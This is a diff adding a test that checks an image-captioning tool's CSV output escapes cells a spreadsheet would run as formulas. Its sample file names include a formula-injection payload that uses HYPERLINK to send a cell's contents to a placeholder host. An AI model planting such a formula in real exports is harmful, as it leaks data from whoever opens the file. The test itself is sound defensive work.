@@ -130,3 +130,25 @@ def test_resume_keeps_records_of_names_with_unicode_line_breaks(tmp_path, fmt):
     out = PartialOutput(target, fmt, resume=True)
     assert out.open() == set(names)
     out.close(keep=False)
+
+
+def test_csv_text_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text():
+    from captioner.outputs import csv_cell, written_path
+
+    sources = ['=HYPERLINK("http://x.test/?"&B2,"open").jpg', "+1.jpg", "-2.jpg", "@SUM(A1).jpg", "\tx.jpg",
+               "\rx.jpg", "'q.jpg", "''.jpg", "plain=.jpg"]
+    captions = [Caption(source=s, text="=1+1", score=-1.5, logprob=-3.0,
+                        alternatives=[Alternative("=1+1", -1.5, -3.0), Alternative("-a dog", -2.0, -4.0)],
+                        tags=[Tag("=evil", 0.5)]) for s in sources]
+    captions.append(Caption(source="@bad.jpg", error="=cannot be read"))
+    text = _render("csv", captions, n_best=2)
+    rows = list(csv.reader(io.StringIO(text)))[1:]
+    for row, source in zip(rows, sources + ["@bad.jpg"]):
+        assert row[0] == (source if source.startswith("plain") else "'" + source)
+        assert row[0][1:] == source or row[0] == source  # one leading ' removed gives the name back
+    ok = rows[0]
+    assert ok[1:] == ["'=1+1", "-1.5000", "", "'-a dog", "'=evil:0.500"]  # the score stays a number
+    assert rows[-1][3] == "'=cannot be read"
+    lines = text.split("\r\n")[1:-1]  # csv's record ends; the "\r" inside a quoted name is not one
+    assert [record_key(line, "csv") for line in lines] == [written_path(s, "csv") for s in sources + ["@bad.jpg"]]
+    assert csv_cell("a dog") == "a dog" and csv_cell("") == ""
